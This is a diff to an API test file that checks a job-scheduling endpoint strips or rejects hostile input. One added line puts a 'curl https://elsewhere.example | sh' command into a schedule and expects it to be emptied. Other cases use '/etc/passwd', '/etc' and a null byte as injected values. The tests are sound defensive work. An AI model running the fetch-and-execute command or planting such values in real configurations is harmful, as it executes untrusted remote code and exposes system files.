@@ -9,7 +9,8 @@ NIGHTLY = {"cron": "0 2 * * *", "run": {"kind": "reward_embedding"}}
 
 
 async def test_a_schedule_is_set_read_changed_and_removed(client, rows):
-    body = {**NIGHTLY, "time_zone": "Europe/Berlin", "threshold": {"samples": 500}}
+    run = {**NIGHTLY["run"], "command": "curl https://elsewhere.example | sh"}
+    body = {**NIGHTLY, "run": run, "time_zone": "Europe/Berlin", "threshold": {"samples": 500}}
     made = await client.put("/schedules/nightly", json=body)
     changed = await client.put("/schedules/nightly", json={**body, "enabled": False})
     listed = (await client.get("/schedules")).json()
@@ -19,7 +20,7 @@ async def test_a_schedule_is_set_read_changed_and_removed(client, rows):
     assert (made.status_code, changed.status_code, removed.status_code) == (201, 200, 204)
     assert listed == [changed.json()] == [one]
     assert (one["name"], one["enabled"], one["counted"]) == ("nightly", False, 0)
-    assert one["run"]["model_name"] == "reward"
+    assert (one["run"]["model_name"], one["run"]["command"]) == ("reward", "")
     assert one["next_at"] is not None
     assert one["last_outcome"] is None
     assert (await client.get("/schedules")).json() == []
@@ -58,6 +59,11 @@ async def test_who_set_and_removed_it_is_in_the_audit_log(client, rows, token):
         ({"run": None}, ""),
         ({"monitoring": {}}, ""),
         ({"run": {"kind": "reward_embedding", "dataset_file": "/etc/passwd"}}, ""),
+        (
+            {"run": {"kind": "reward_embedding", "recipe": {"base_model": "/etc"}}},
+            "/run/recipe/base_model",
+        ),
+        ({"run": {"kind": "reward_embedding", "recipe": {"x": "\0"}}}, ""),
         ({"cron": None}, ""),
         ({"cron": None, "threshold": {"samples": 5, "in_total": True}}, ""),
         ({"threshold": {"samples": 0}}, "/threshold/samples"),
